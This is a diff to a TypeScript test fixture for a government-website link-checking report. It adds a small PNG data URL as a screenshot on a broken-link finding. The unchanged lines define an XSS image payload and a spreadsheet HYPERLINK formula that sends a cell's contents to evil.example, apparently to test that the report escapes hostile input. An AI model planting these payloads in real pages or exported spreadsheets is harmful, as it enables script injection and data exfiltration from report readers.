@@ -5,6 +5,8 @@ import { buildReport } from '../../shared/report/build-report.ts';
 
 export const SITE = 'https://www.example-county.gov.cn/';
 export const HOSTILE_TITLE = '<img src=x onerror=alert(1)>';
+/** A 4×4 red PNG as a data URL: an inline evidence screenshot. */
+export const RED_DOT_PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR4nGO4IycHRwzEcQDTIxGBFNCZswAAAABJRU5ErkJggg==';
 export const HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
 
 type Draft = Omit<Finding, 'id' | 'data' | 'indicators' | 'fix'> & Partial<Pick<Finding, 'data' | 'indicators' | 'fix'>>;
@@ -27,7 +29,7 @@ const page = (path: string, title: string): PageRecord => ({
 export const BASE_FINDINGS: Finding[] = [
   finding({ checkId: 'link-broken', category: 'broken-link', outcome: 'fail', severity: 'major', url: `${SITE}zwgk/index.html`,
     messageId: 'http-error', message: { zh: '链接无法访问（404）：https://old.example-county.gov.cn/a.pdf', en: 'Broken link' },
-    target: 'https://old.example-county.gov.cn/a.pdf', column: '政务公开' }),
+    target: 'https://old.example-county.gov.cn/a.pdf', column: '政务公开', data: { screenshot: RED_DOT_PNG } }),
   finding({ checkId: 'link-broken', category: 'broken-link', outcome: 'fail', severity: 'major', url: `${SITE}jyj/news.html`,
     messageId: 'http-error', message: { zh: '链接无法访问（500）：https://www.example-county.gov.cn/x', en: 'Broken link' },
     target: 'https://www.example-county.gov.cn/x', column: '教育动态' }),
